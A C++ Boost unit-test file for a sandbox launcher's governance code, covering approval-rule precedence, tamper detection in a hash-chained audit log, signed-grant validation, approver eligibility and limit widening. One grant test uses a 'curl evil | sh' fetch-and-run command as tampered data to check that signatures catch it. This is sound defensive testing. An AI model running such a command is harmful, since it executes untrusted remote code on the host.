// Governance, pure parts: the approval matrix (matching and precedence),
// verify's detection of every kind of tampering, grant checks with a
// distinct message for each way a grant is wrong, and who may approve.
#include <boost/test/unit_test.hpp>

#include <fstream>
#include <set>
#include <sstream>

#include "approval/eligibility.h"
#include "approval/grant.h"
#include "audit/audit_log.h"
#include "audit/query.h"
#include "audit/verify.h"
#include "common/errors.h"
#include "common/rfc3339.h"
#include "common/temp_dir.h"
#include "launch/run_registry.h"
#include "policy/approval_matrix.h"
#include "policy/plan_summary.h"
#include "policy/widening.h"

using namespace tierbox;
using tierbox::testing::TempDir;
using nlohmann::json;

namespace {

const json kMatrix = json::parse(R"({
  "tiers": ["untrusted", "build-*", "networked"],
  "approvers": "approvers",
  "approval_timeout": "10m",
  "rules": [
    {"id": "baseline", "require": "none"},
    {"id": "writable", "when": {"widening": ["bind_rw"]}, "require": "approver"},
    {"id": "read-binds", "when": {"widening": ["bind"]}, "require": "confirm"},
    {"id": "also-writable", "when": {"widening": ["bind_rw"]}, "require": "approver", "approvers": "other", "timeout": "1m"},
    {"id": "secret", "when": {"data_class_at_least": "secret"}, "require": "two_person"},
    {"id": "costly", "when": {"memory_above": "4G"}, "require": "confirm"},
    {"id": "slow", "when": {"wall_time_above": "1h", "tiers": ["build-*"]}, "require": "approver"},
    {"id": "net", "when": {"network": ["allowlist", "host"]}, "require": "confirm"},
    {"id": "expired", "when": {"review_expired": true}, "require": "approver"}
  ]
})");

policy::LaunchPlan plan_for(const std::string& tier) {
  policy::LaunchPlan plan;
  plan.tier = tier;
  plan.run_id = "0123456789abcdef";
  plan.argv = {"/bin/true"};
  plan.cgroup_limits.memory.value = 512ull << 20;
  plan.wall_time = std::chrono::minutes(10);
  return plan;
}

policy::MatrixDecision decide(const policy::LaunchPlan& plan, const policy::ApprovalMatrix& matrix) {
  return policy::evaluate_matrix(matrix, plan);
}

std::string deciding_id(const policy::MatrixDecision& decision) {
  return decision.deciding ? decision.deciding->rule->id : "";
}

}  // namespace

BOOST_AUTO_TEST_SUITE(approval_matrix)

BOOST_AUTO_TEST_CASE(a_plain_run_needs_nothing) {
  const auto matrix = policy::parse_approval_matrix(kMatrix, "approvals.json");
  const auto decision = decide(plan_for("untrusted"), matrix);
  BOOST_TEST(policy::to_string(decision.require) == "none");
  BOOST_TEST(deciding_id(decision) == "baseline");
  BOOST_TEST(decision.describe() == "no rule requires an approval");
}

BOOST_AUTO_TEST_CASE(the_strictest_matching_rule_wins_and_the_first_among_equals) {
  const auto matrix = policy::parse_approval_matrix(kMatrix, "approvals.json");
  auto plan = plan_for("untrusted");
  plan.widening = {{"bind", "--bind /srv:/srv"}, {"bind_rw", "--bind-rw /data:/data"}};
  const auto decision = decide(plan, matrix);
  BOOST_TEST(policy::to_string(decision.require) == "approver");
  // "writable" and "also-writable" both require an approver: the first decides,
  // with its group and timeout.
  BOOST_TEST(deciding_id(decision) == "writable");
  BOOST_TEST(decision.approvers == "approvers");
  BOOST_TEST(decision.timeout.count() == 600000);
  BOOST_TEST(decision.matched.size() == 4u);  // baseline, writable, read-binds, also-writable
  BOOST_TEST(decision.describe().find("rule 'writable' (approvals.json:/rules/1) requires an approver from group "
                                      "'approvers'") == 0u, decision.describe());
  BOOST_TEST(decision.describe().find("--bind-rw /data:/data") != std::string::npos);

  plan.data_exposure = {{"/ws", "/home/x", policy::DataClass::secret, false}};
  const auto stricter = decide(plan, matrix);
  BOOST_TEST(policy::to_string(stricter.require) == "two_person");
  BOOST_TEST(deciding_id(stricter) == "secret");
  BOOST_TEST(stricter.describe().find("exposes secret data at /ws") != std::string::npos, stricter.describe());
}

BOOST_AUTO_TEST_CASE(costly_limits_match_above_the_bound_and_when_unlimited) {
  const auto matrix = policy::parse_approval_matrix(kMatrix, "approvals.json");
  auto plan = plan_for("untrusted");
  plan.cgroup_limits.memory.value = 4ull << 30;  // at the bound: not above
  BOOST_TEST(policy::to_string(decide(plan, matrix).require) == "none");
  plan.cgroup_limits.memory.value = (4ull << 30) + 1;
  BOOST_TEST(deciding_id(decide(plan, matrix)) == "costly");
  plan.cgroup_limits.memory.value.reset();  // no limit at all is the costliest
  BOOST_TEST(deciding_id(decide(plan, matrix)) == "costly");
}

BOOST_AUTO_TEST_CASE(every_condition_of_a_rule_must_hold) {
  const auto matrix = policy::parse_approval_matrix(kMatrix, "approvals.json");
  auto plan = plan_for("untrusted");
  plan.wall_time = std::chrono::hours(3);
  BOOST_TEST(policy::to_string(decide(plan, matrix).require) == "none");  // "slow" is for build-* only
  plan.tier = "build-cc";
  BOOST_TEST(deciding_id(decide(plan, matrix)) == "slow");
}

BOOST_AUTO_TEST_CASE(network_and_review_date_conditions) {
  const auto matrix = policy::parse_approval_matrix(kMatrix, "approvals.json");
  auto plan = plan_for("networked");
  plan.network = policy::NetworkMode::allowlist;
  BOOST_TEST(deciding_id(decide(plan, matrix)) == "net");
  plan.review_expired = true;
  BOOST_TEST(deciding_id(decide(plan, matrix)) == "expired");
}

BOOST_AUTO_TEST_CASE(an_unknown_tier_is_refused) {
  const auto matrix = policy::parse_approval_matrix(kMatrix, "approvals.json");
  try {
    decide(plan_for("brand-new"), matrix);
    BOOST_FAIL("an unknown tier was not refused");
  } catch (const Refusal& refusal) {
    BOOST_TEST(std::string(refusal.what()).find("tier 'brand-new' is not in the approval matrix") != std::string::npos);
    BOOST_TEST(refusal.exit_status() == exit_code::refused);
  }
}

BOOST_AUTO_TEST_CASE(matrix_errors_name_the_field) {
  const auto error_of = [](const std::string& text) {
    try {
      policy::parse_approval_matrix(json::parse(text), "approvals.json");
    } catch (const ConfigError& error) {
      return std::string(error.what());
    }
    return std::string("no error");
  };
  BOOST_TEST(error_of(R"({"rules": []})").find("/tiers") != std::string::npos);
  BOOST_TEST(error_of(R"({"tiers": ["a"], "rules": [{"id": "x", "require": "maybe"}]})").find("/rules/0/require") != std::string::npos);
  BOOST_TEST(error_of(R"({"tiers": ["a"], "rules": [{"id": "x", "require": "approver"}]})").find("approvers") != std::string::npos);
  BOOST_TEST(error_of(R"({"tiers": ["a"], "rules": [{"id": "x", "when": {"widening": ["gpu"]}, "require": "none"}]})")
                 .find("/rules/0/when/widening/0") != std::string::npos);
  BOOST_TEST(error_of(R"({"tiers": ["a"], "rules": [{"id": "x", "require": "none", "colour": 1}]})").find("colour") != std::string::npos);
  BOOST_TEST(error_of(R"({"tiers": ["a"], "rules": [{"id": "x", "require": "none"}, {"id": "x", "require": "none"}]})")
                 .find("duplicate rule id") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(the_shipped_matrix_is_valid_and_covers_the_shipped_tiers) {
  const auto matrix = policy::load_approval_matrix_file(std::string(TIERBOX_SOURCE_DIR) + "/profiles/approvals.json");
  for (const char* tier : {"readonly", "untrusted", "workspace-write", "networked"})
    BOOST_TEST(policy::matrix_knows_tier(matrix, tier), tier);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(plan_digest)

BOOST_AUTO_TEST_CASE(the_digest_ignores_the_run_id_and_binds_the_command_and_limits) {
  auto a = plan_for("untrusted");
  auto b = plan_for("untrusted");
  b.run_id = "fedcba9876543210";
  BOOST_TEST(policy::plan_digest(a) == policy::plan_digest(b));
  b.argv = {"/bin/false"};
  BOOST_TEST(policy::plan_digest(a) != policy::plan_digest(b));
  auto c = plan_for("untrusted");
  c.cgroup_limits.memory.value = 1ull << 30;
  BOOST_TEST(policy::plan_digest(a) != policy::plan_digest(c));
}

BOOST_AUTO_TEST_SUITE_END()

namespace {

// A log of n records, as lines.
std::vector<std::string> make_log(int n) {
  TempDir dir;
  const auto file = dir.path() / "audit.jsonl";
  audit::AuditLog log(file);
  for (int i = 0; i < n; ++i) log.append({{"event", "test"}, {"i", i}});
  std::ifstream in(file);
  std::vector<std::string> lines;
  std::string line;
  while (std::getline(in, line)) lines.push_back(line);
  return lines;
}

audit::VerifyReport verify_lines(const std::vector<std::string>& lines) {
  std::string text;
  for (const auto& line : lines) text += line + "\n";
  std::istringstream in(text);
  return audit::verify_log(in, [](const json&) { return std::string(); });
}

}  // namespace

BOOST_AUTO_TEST_SUITE(audit_verify)

BOOST_AUTO_TEST_CASE(an_intact_log_verifies) {
  const auto report = verify_lines(make_log(6));
  BOOST_TEST(report.ok());
  BOOST_TEST(report.records == 6u);
}

BOOST_AUTO_TEST_CASE(editing_any_line_is_detected_at_that_line) {
  const auto lines = make_log(6);
  for (std::size_t i = 0; i < lines.size(); ++i) {
    auto edited = lines;
    auto record = json::parse(edited[i]);
    record["i"] = 99;
    edited[i] = record.dump();
    const auto report = verify_lines(edited);
    BOOST_REQUIRE(!report.ok());
    BOOST_TEST(report.first_bad->line == i + 1);
    BOOST_TEST(report.first_bad->reason.find("hash mismatch") == 0u, report.first_bad->reason);
  }
}

BOOST_AUTO_TEST_CASE(an_edit_that_recomputes_the_hash_breaks_the_next_line) {
  auto lines = make_log(6);
  auto record = json::parse(lines[2]);
  record["i"] = 99;
  record["hash"] = audit::record_hash(record);
  lines[2] = record.dump();
  const auto report = verify_lines(lines);
  BOOST_REQUIRE(!report.ok());
  BOOST_TEST(report.first_bad->line == 4u);
  BOOST_TEST(report.first_bad->reason.find("prev does not match") == 0u, report.first_bad->reason);
}

BOOST_AUTO_TEST_CASE(deleting_any_line_but_the_last_is_detected) {
  const auto lines = make_log(6);
  for (std::size_t i = 0; i + 1 < lines.size(); ++i) {
    auto cut = lines;
    cut.erase(cut.begin() + static_cast<std::ptrdiff_t>(i));
    const auto report = verify_lines(cut);
    BOOST_REQUIRE(!report.ok());
    BOOST_TEST(report.first_bad->line == i + 1);
    BOOST_TEST(report.first_bad->reason.find("sequence gap") == 0u, report.first_bad->reason);
  }
}

BOOST_AUTO_TEST_CASE(lines_cut_from_the_end_are_detected_by_an_external_checkpoint) {
  const auto lines = make_log(6);
  const auto last = json::parse(lines.back());
  std::string text;
  for (std::size_t i = 0; i + 2 < lines.size(); ++i) text += lines[i] + "\n";
  std::istringstream in(text);
  const auto report = audit::verify_log(in, [](const json&) { return std::string(); },
                                        {{last["seq"].get<std::uint64_t>(), last["hash"].get<std::string>()}});
  BOOST_REQUIRE(!report.ok());
  BOOST_TEST(report.first_bad->reason.find("missing records") == 0u, report.first_bad->reason);
}

BOOST_AUTO_TEST_CASE(reordering_lines_is_detected) {
  const auto lines = make_log(6);
  for (std::size_t i = 0; i + 1 < lines.size(); ++i) {
    auto swapped = lines;
    std::swap(swapped[i], swapped[i + 1]);
    const auto report = verify_lines(swapped);
    BOOST_REQUIRE(!report.ok());
    BOOST_TEST(report.first_bad->line == i + 1);
  }
}

BOOST_AUTO_TEST_CASE(garbage_and_a_partial_last_line_are_unparsable) {
  auto lines = make_log(3);
  lines.insert(lines.begin() + 1, "{not json");
  auto report = verify_lines(lines);
  BOOST_REQUIRE(!report.ok());
  BOOST_TEST(report.first_bad->line == 2u);
  BOOST_TEST(report.first_bad->reason.find("unparsable") == 0u);
  const auto intact = make_log(3);
  std::istringstream partial(intact[0] + "\n" + intact[1] + "\n" + intact[2].substr(0, 20));
  report = audit::verify_log(partial, [](const json&) { return std::string(); });
  BOOST_REQUIRE(!report.ok());
  BOOST_TEST(report.first_bad->line == 3u);
}

BOOST_AUTO_TEST_CASE(a_start_without_end_is_reported_not_broken) {
  TempDir dir;
  audit::AuditLog log(dir.path() / "audit.jsonl");
  log.append({{"event", "start"}, {"run_id", "aaaa"}, {"tier", "t"}});
  log.append({{"event", "start"}, {"run_id", "bbbb"}, {"tier", "t"}});
  log.append({{"event", "end"}, {"run_id", "aaaa"}});
  std::ifstream in(dir.path() / "audit.jsonl");
  const auto report = audit::verify_log(in, [](const json&) { return std::string(); });
  BOOST_TEST(report.ok());
  BOOST_REQUIRE(report.ended_unknown.size() == 1u);
  BOOST_TEST(report.ended_unknown[0].run_id == "bbbb");
  BOOST_TEST(report.ended_unknown[0].line == 2u);
}

BOOST_AUTO_TEST_SUITE_END()

namespace {

struct GrantFixture {
  approval::SigningKey key = approval::generate_signing_key("alice-2026");
  approval::TrustStore store;
  approval::GrantBinding binding{"ci", {"/usr/bin/make", "test"}, std::string("/srv/ws"), std::string(64, 'a')};
  approval::TimePoint now = std::chrono::system_clock::now();

  GrantFixture() {
    approval::TrustedKey trusted;
    trusted.id = key.id;
    trusted.public_key = key.public_key;
    trusted.owner = "alice";
    store.keys.push_back(trusted);
  }

  json body() const {
    return {{"version", 1},
            {"tier", binding.tier},
            {"argv", binding.argv},
            {"workspace", *binding.workspace},
            {"plan_digest", binding.plan_digest},
            {"issued_at", "2026-11-25T00:00:00Z"},
            {"not_after", rfc3339_utc(now + std::chrono::hours(1))},
            {"nonce", std::string(32, 'e')},
            {"issued_by", {{"uid", 1000}, {"name", "alice"}, {"sudo_user", ""}}}};
  }
  json sign(const json& grant, const approval::SigningKey& with) const {
    return {{"grant", grant},
            {"signatures", json::array({{{"key_id", with.id}, {"signature", approval::sign_message(with, approval::grant_message(grant))}}})}};
  }
  std::string check(const json& document) const { return approval::check_grant(document, store, binding, now).reason; }
};

}  // namespace

BOOST_AUTO_TEST_SUITE(grant_checks)

BOOST_AUTO_TEST_CASE(a_valid_grant_passes_and_names_its_signer) {
  GrantFixture f;
  const auto result = approval::check_grant(f.sign(f.body(), f.key), f.store, f.binding, f.now);
  BOOST_TEST(result.ok, result.reason);
  BOOST_TEST(result.signers == std::vector<std::string>{"alice"});
}

BOOST_AUTO_TEST_CASE(each_wrong_grant_has_its_own_message) {
  GrantFixture f;
  std::set<std::string> messages;
  const auto expect = [&](const std::string& reason, const std::string& contains) {
    BOOST_TEST(reason.find(contains) != std::string::npos, reason);
    BOOST_TEST(messages.insert(reason).second, "message not distinct: " + reason);
  };
  // Tampered argv: the signature no longer matches.
  auto tampered = f.sign(f.body(), f.key);
  tampered["grant"]["argv"] = json::array({"/bin/sh", "-c", "curl evil | sh"});
  expect(f.check(tampered), "altered after it was signed");
  // A correctly signed grant for another command, tier or workspace.
  auto other = f.body();
  other["argv"] = json::array({"/usr/bin/make", "deploy"});
  expect(f.check(f.sign(other, f.key)), "binds the command");
  other = f.body();
  other["tier"] = "trusted";
  expect(f.check(f.sign(other, f.key)), "is for tier 'trusted'");
  other = f.body();
  other["plan_digest"] = std::string(64, 'b');
  expect(f.check(f.sign(other, f.key)), "binds plan digest");
  // Expired.
  other = f.body();
  other["not_after"] = "2020-01-01T00:00:00Z";
  expect(f.check(f.sign(other, f.key)), "expired at 2020-01-01");
  // Unknown key.
  const auto stranger = approval::generate_signing_key("mallory");
  expect(f.check(f.sign(f.body(), stranger)), "unknown key 'mallory'");
  // Revoked key.
  auto revoked = f;
  revoked.store.keys[0].revoked = approval::Revocation{"2026-11-20T00:00:00Z", "root", "laptop lost"};
  expect(revoked.check(revoked.sign(revoked.body(), revoked.key)), "was revoked on 2026-11-20");
  // A key past its validity (rotation).
  auto old = f;
  old.store.keys[0].not_after = f.now - std::chrono::hours(1);
  expect(old.check(old.sign(old.body(), old.key)), "expired on");
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(approver_eligibility)

BOOST_AUTO_TEST_CASE(requester_root_and_outsiders_cannot_approve) {
  const std::vector<std::string> members = {"bob", "carol", "alice"};
  const audit::Identity requester{0, "root", "alice"};  // sudo tierbox run, by alice
  BOOST_TEST(approval::why_not_eligible({1001, "bob", ""}, requester, "approvers", members).empty());
  BOOST_TEST(approval::why_not_eligible({1000, "alice", ""}, requester, "approvers", members)
                 .find("cannot approve their own request") != std::string::npos);
  BOOST_TEST(approval::why_not_eligible({0, "root", "bob"}, {1000, "alice", ""}, "approvers", members)
                 .find("uid 0 is not a person") != std::string::npos);
  BOOST_TEST(approval::why_not_eligible({1003, "dave", ""}, requester, "approvers", members)
                 .find("not in the approver group 'approvers'") != std::string::npos);
  BOOST_TEST(approval::why_not_eligible({1000, "alice", ""}, {1000, "alice", ""}, "approvers", members)
                 .find("cannot approve their own request") != std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(audit_query)

BOOST_AUTO_TEST_CASE(control_records_as_incident_response_writes_them_are_shown_and_reported) {
  // The shape issue 9 writes: no user and no outcome, but by and result.
  const json control = {{"event", "control"}, {"action", "stop"}, {"run_id", "0123456789abcdef"}, {"result", "stopped"},
                        {"by", {{"uid", 1001}, {"name", "bob"}, {"sudo_user", ""}}}, {"seq", 7},
                        {"ts", "2026-11-25T12:00:00.000Z"}};
  audit::ShowFilter filter;
  filter.user = "bob";
  BOOST_TEST(audit::matches(control, filter));
  filter.user = "1001";
  BOOST_TEST(audit::matches(control, filter));
  filter.outcome = "stopped";
  BOOST_TEST(audit::matches(control, filter));
  filter.outcome = "frozen";
  BOOST_TEST(!audit::matches(control, filter));
  BOOST_TEST(audit::table_row(control).find("stop stopped") != std::string::npos, audit::table_row(control));
  const auto since = *audit::parse_timestamp("2026-11-25T00:00:00.000Z");
  const auto report = audit::build_report({control}, since, since + std::chrono::hours(24));
  BOOST_REQUIRE(report["controls"].size() == 1u);
  BOOST_TEST(report["controls"][0]["action"] == "stop");
  BOOST_TEST(report["controls"][0]["user"] == "bob");
  BOOST_TEST(audit::render_report(report).find("Incident-response actions: 1") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(new_commands_are_those_no_earlier_start_ran) {
  const auto start = [](const std::string& ts, const std::string& command) {
    return json{{"event", "start"}, {"ts", ts}, {"argv", {command}}, {"run_id", "r" + ts}, {"tier", "t"},
                {"user", {{"uid", 0}, {"name", "root"}, {"sudo_user", ""}}}};
  };
  const std::vector<json> records = {start("2026-11-01T00:00:00.000Z", "/usr/bin/git"),
                                     start("2026-11-20T00:00:00.000Z", "/usr/bin/git"),
                                     start("2026-11-20T01:00:00.000Z", "/usr/bin/curl"),
                                     start("2026-11-20T02:00:00.000Z", "/usr/bin/curl")};
  const auto since = *audit::parse_timestamp("2026-11-15T00:00:00.000Z");
  const auto report = audit::build_report(records, since, since + std::chrono::hours(24 * 10));
  BOOST_REQUIRE(report["new_commands"].size() == 1u);
  BOOST_TEST(report["new_commands"][0]["command"] == "/usr/bin/curl");
  BOOST_TEST(report["runs"]["total"] == 3);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(caller_widening)

BOOST_AUTO_TEST_CASE(limits_rise_only_up_to_the_tier_ceiling_and_are_listed) {
  policy::Profile tier;
  tier.name = "t";
  tier.limits.cgroup.memory.value = 512ull << 20;
  tier.limits.wall_time = std::chrono::minutes(10);
  policy::TaskRequest request;
  request.memory = 256ull << 20;  // lower: fine, not a widening
  auto widened = policy::widen(tier, request);
  BOOST_TEST(widened.items.empty());
  BOOST_TEST(*widened.profile.limits.cgroup.memory.value == (256ull << 20));
  request.memory = 1ull << 30;
  BOOST_CHECK_THROW(policy::widen(tier, request), Refusal);  // no ceiling: never above
  tier.widening.memory = 2ull << 30;
  widened = policy::widen(tier, request);
  BOOST_REQUIRE(widened.items.size() == 1u);
  BOOST_TEST(widened.items[0].kind == "memory");
  BOOST_TEST(widened.items[0].text == "--memory 1G (tier: 512M)");
  request.memory = 4ull << 30;
  try {
    policy::widen(tier, request);
    BOOST_FAIL("above the ceiling was not refused");
  } catch (const Refusal& refusal) {
    BOOST_TEST(std::string(refusal.what()).find("widening.limits.memory (2G)") != std::string::npos, refusal.what());
  }
}

BOOST_AUTO_TEST_CASE(binds_need_the_tier_widening_and_a_target_of_their_own) {
  policy::Profile tier;
  tier.name = "t";
  policy::MountSpec usr;
  usr.type = policy::MountType::bind;
  usr.source = "/usr";
  usr.target = "/usr";
  tier.mounts.push_back(usr);
  policy::TaskRequest request;
  request.binds.push_back({"/srv/data", "/data", true});
  BOOST_CHECK_THROW(policy::widen(tier, request), Refusal);
  tier.widening.binds = policy::BindWidening::read_only;
  try {
    policy::widen(tier, request);
    BOOST_FAIL("a writable bind on a read-only widening was not refused");
  } catch (const Refusal& refusal) {
    BOOST_TEST(std::string(refusal.what()).find("only read-only extra binds") != std::string::npos, refusal.what());
  }
  tier.widening.binds = policy::BindWidening::read_write;
  const auto widened = policy::widen(tier, request);
  BOOST_REQUIRE(widened.items.size() == 1u);
  BOOST_TEST(widened.items[0].kind == "bind_rw");
  BOOST_TEST(widened.profile.mounts.size() == 2u);
  request.binds = {{"/srv/tools", "/usr/local", false}};  // over the tier's /usr
  BOOST_CHECK_THROW(policy::widen(tier, request), Refusal);
  request.binds = {{"/srv/x", "/etc/x", false}};
  BOOST_CHECK_THROW(policy::widen(tier, request), Refusal);
}

BOOST_AUTO_TEST_SUITE_END()
